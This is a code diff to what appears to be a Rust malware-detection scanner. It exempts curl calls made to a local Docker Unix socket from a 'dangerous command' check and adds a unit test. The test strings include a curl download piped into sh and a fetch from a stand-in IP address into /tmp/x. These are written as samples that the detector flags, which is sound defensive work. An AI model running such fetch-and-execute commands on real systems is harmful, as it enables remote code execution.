@@ -241,8 +241,12 @@ static FETCH_TARGET: LazyLock<Regex> = crate::static_regex!(r"(?i)://|\s-[a-z]*[
 /// True when a command line fetches or decodes a second stage.
 pub fn is_dangerous_command(command: &str) -> bool {
     let command = command_head(command);
+    // `curl --unix-socket /run/docker.sock http://docker/…` asks a local daemon, downloads
+    // nothing.
     DOWNLOADER_COMMAND.is_match(command)
-        || FETCH_TOOL.is_match(command) && FETCH_TARGET.is_match(command)
+        || FETCH_TOOL.is_match(command)
+            && FETCH_TARGET.is_match(command)
+            && !command.contains("--unix-socket")
 }
 
 /// `wget -qO /tmp/x URL && chmod +x /tmp/x`: a binary fetched and made executable in one
@@ -1352,6 +1356,19 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") < 0.1);
         let code = "import subprocess\ndef f(args):\n    subprocess.run(args)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH120") < 0.1);
+    }
+
+    #[test]
+    fn curl_to_a_local_daemon_socket_downloads_nothing() {
+        assert!(!is_dangerous_command(
+            "curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json"
+        ));
+        assert!(is_dangerous_command(
+            "curl -s --unix-socket /run/docker.sock http://docker/x | sh"
+        ));
+        assert!(is_dangerous_command(
+            "curl -s http://203.0.113.9/x -o /tmp/x"
+        ));
     }
 
     #[test]
